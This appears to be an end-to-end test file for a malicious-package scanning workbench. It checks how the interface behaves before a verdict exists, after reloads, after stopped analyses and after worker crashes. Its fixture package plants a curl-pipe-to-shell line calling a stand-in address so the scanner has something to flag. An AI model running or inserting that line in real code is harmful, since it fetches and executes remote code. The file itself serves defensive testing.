import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { WebHost } from "../../main/web/start-web-host.ts";
import { buildTar, gzip } from "../support/tar-builder.ts";
import { assertNoComplaints, launchBrowser } from "./support/browser.ts";
import { buildHarmless, buildSpecimen, SPECIMEN_NAME } from "./support/specimen.ts";
import { makeScratch, type Scratch, startHost, WorkbenchPage } from "./support/workbench.ts";

/**
 * A package whose analysis takes long: its files are read before there is a verdict, nothing that could be taken for a verdict is shown until then,
 * and what comes later moves nobody. The analysis is held at a member by the fault switch (main/scan/fault-switch.ts) until a file is there.
 */
const FAULT = "VIVARIUM_FAULT";
const GATE = "VIVARIUM_FAULT_GATE";
const LONG_NAME = "reed-1.0.tar.gz";

/** A file of many lines with a call in the middle that some rule marks, and literals that get a control of their own. */
function buildLong(): Uint8Array<ArrayBuffer> {
	const lines = Array.from({ length: 400 }, (_, index) => `value_${index} = ${index}`);
	lines[200] = 'import os; os.system("curl http://192.0.2.7/next | sh")';
	const file = (name: string, content: string) => ({ name: `reed-1.0/${name}`, content });
	return gzip(
		buildTar([
			file("PKG-INFO", "Metadata-Version: 2.1\nName: reed\nVersion: 1.0\n"),
			file("setup.py", 'from setuptools import setup\nsetup(name="reed", version="1.0")\n'),
			file("reed/__init__.py", `${lines.join("\n")}\n`),
		]),
	);
}

let browser: Browser;
let scratch: Scratch;
let host: WebHost | undefined;
let bench: WorkbenchPage;
let gate = "";

beforeAll(async () => {
	scratch = await makeScratch();
	gate = join(scratch.folder, "gate");
	process.env[GATE] = gate;
	browser = await launchBrowser();
});

afterEach(async () => {
	await bench?.close();
	await host?.close();
	host = undefined;
	delete process.env[FAULT];
	await rm(gate, { force: true });
});

afterAll(async () => {
	delete process.env[GATE];
	await browser?.close();
	await scratch?.remove();
});

async function start(fault: string, name: string, bytes: Uint8Array): Promise<void> {
	process.env[FAULT] = fault;
	const file = join(scratch.folder, name);
	await writeFile(file, bytes);
	host = await startHost({
		targets: [file],
		stateFolder: join(scratch.folder, `state-${name}-${fault.split(":")[0]}`),
	});
	bench = await WorkbenchPage.open(browser, host.url);
}

async function openGate(): Promise<void> {
	await writeFile(gate, "");
}

async function openFile(name: string): Promise<void> {
	await bench.page.locator('[data-kind="member"]', { hasText: name }).first().click();
	await bench.page.locator(".viv-code .view-line").first().waitFor();
}

/** Nothing on the screen is, or looks like, a verdict of the machine. */
async function expectNoVerdict(): Promise<void> {
	expect(await bench.part("workbench").getAttribute("data-judged")).toBe("false");
	expect(await bench.part("machine-verdict").count()).toBe(0);
	expect(await bench.part("story").count()).toBe(0);
	expect(await bench.part("no-verdict").first().innerText()).toContain("no verdict yet");
	for (const level of ["clear", "notable", "suspicious", "malicious"])
		expect(await bench.page.locator(`[data-verdict="${level}"]`).count()).toBe(0);
}

/** Where the reader is: document, tabs, top of the text in pixels, field with the focus and what stands in it. */
function whereReaderIs(): Promise<unknown> {
	return bench.page.evaluate(() => {
		const lines = [...document.querySelectorAll<HTMLElement>(".viv-code .view-line")];
		const top = Math.min(...lines.map((line) => line.getBoundingClientRect().top));
		const first = lines.find((line) => line.getBoundingClientRect().top === top);
		const focused = document.activeElement;
		return {
			document: document.querySelector('[data-testid="document-pane"]')?.getAttribute("data-document"),
			tabs: [...document.querySelectorAll('[role="tablist"] [data-document]')].map((tab) => tab.textContent),
			top,
			text: first?.textContent,
			tree: document.querySelector('[data-testid="explorer-tree"]')?.scrollTop,
			rows: [...document.querySelectorAll('[data-testid="explorer-tree"] [role="treeitem"]')].map((row) =>
				row.getAttribute("data-document"),
			),
			focused: focused?.getAttribute("data-testid"),
			typed: focused instanceof HTMLInputElement ? focused.value : undefined,
		};
	});
}

describe("before there is a verdict", () => {
	it("files are read, nothing is said of what was found, and what comes later moves nobody", async () => {
		await start("hold:worker:setup.py", LONG_NAME, buildLong());
		await bench.part("analysis-progress").first().waitFor();
		await expectNoVerdict();
		const overview = await bench.part("overview").innerText();
		expect(overview).toContain("reed 1.0");
		expect(overview).toContain("3 files");
		expect(overview).not.toMatch(/no rule matched|everything was examined|no address/i);
		expect(await bench.part("tab:findings").innerText()).toContain("…");

		await openFile("__init__.py");
		expect(await bench.editorText()).toContain("value_0 = 0");
		await expectNoVerdict();

		// Keys that judge say why they do nothing.
		for (const key of ["j", "m", "v", "Control+e"]) {
			await bench.press(key);
			await bench.page
				.getByText(/still under way/)
				.last()
				.waitFor();
		}
		expect(await bench.part("verdict-dialog").count()).toBe(0);

		// Far down in the file, with the keyboard in another field.
		await bench.page.locator(".viv-code .view-line").first().click();
		for (let page = 0; page < 8; page++) await bench.press("PageDown");
		await expect.poll(() => bench.editorText()).toContain("value_300");
		await bench.part("explorer-filter").fill("init");
		await bench.page.waitForTimeout(300);
		const before = await whereReaderIs();
		await openGate();
		await bench.judged();
		await bench.part("finding-row").first().waitFor();
		await bench.page.waitForTimeout(300);
		expect(await whereReaderIs()).toEqual(before);
		expect(await bench.part("machine-verdict").first().innerText()).toMatch(/clear|notable|suspicious|malicious/);
		expect(await bench.part("no-verdict").count()).toBe(0);
		// The marks are there now.
		await bench.page.locator(".explorer-name[data-severity]").first().waitFor();
		assertNoComplaints(bench.complaints);
	});

	it("a reload finds the analysis where it is", async () => {
		await start("hold:worker:setup.py", LONG_NAME, buildLong());
		await bench.part("analysis-progress").first().waitFor();
		await openFile("setup.py");
		await bench.page.waitForTimeout(1_000);
		await bench.page.reload();
		await bench.page.locator(".viv-code .view-line").first().waitFor();
		await expectNoVerdict();
		await openGate();
		await bench.judged();
		expect(await bench.editorText()).toContain("setuptools");
	});

	it("the analysis is stopped, says so, and is done again", async () => {
		await start("hold:worker:setup.py", SPECIMEN_NAME, buildSpecimen());
		await bench.part("command:artifact.stop-analysis").first().click();
		await bench.part("analysis-fault").first().waitFor();
		expect(await bench.part("no-verdict").first().innerText()).toContain("no verdict");
		expect(await bench.part("machine-verdict").count()).toBe(0);
		await openFile("colours.py");
		expect(await bench.editorText()).toContain("hyalinobatrachium");
		await openGate();
		await bench.part("command:artifact.analyse").first().click();
		await bench.judged();
		expect(await bench.rows()).not.toEqual([]);
	});

	it("a package is closed while it is analysed, and the next one is opened", async () => {
		await start("hold:worker:setup.py", SPECIMEN_NAME, buildSpecimen());
		await bench.part("analysis-progress").first().waitFor();
		await bench.press("Alt+w");
		await bench.part("start-page").waitFor();
		await bench.upload("pond-0.1.tar.gz", buildHarmless());
		await bench.shows("pond-0.1.tar.gz");
		expect(await bench.part("machine-verdict").first().innerText()).toContain("clear");
		assertNoComplaints(bench.complaints);
	});
});

describe("where something dies during the analysis", () => {
	it.each(["open", "worker"])("%s: it goes on without that member, and says so", async (where) => {
		await start(`crash:${where}:colours.py`, SPECIMEN_NAME, buildSpecimen());
		await bench.judged();
		await bench.part("tab:coverage").click();
		await bench.part("coverage-list").getByText("colours.py").first().waitFor();
		await openFile("setup.py");
		expect(await bench.editorText()).toContain("setuptools");
		assertNoComplaints(bench.complaints);
	});

	it("where a member is shown: the engine is started again, and says why it is not shown again", async () => {
		await start("crash:engine:colours.py", SPECIMEN_NAME, buildSpecimen());
		await bench.judged();
		await bench.page.locator('[data-kind="member"]', { hasText: "colours.py" }).first().dblclick();
		await bench.page.getByText("ended while this was shown").first().waitFor();
		await openFile("setup.py");
		expect(await bench.editorText()).toContain("setuptools");
		await bench.part("finding-row").first().waitFor();
	});
});
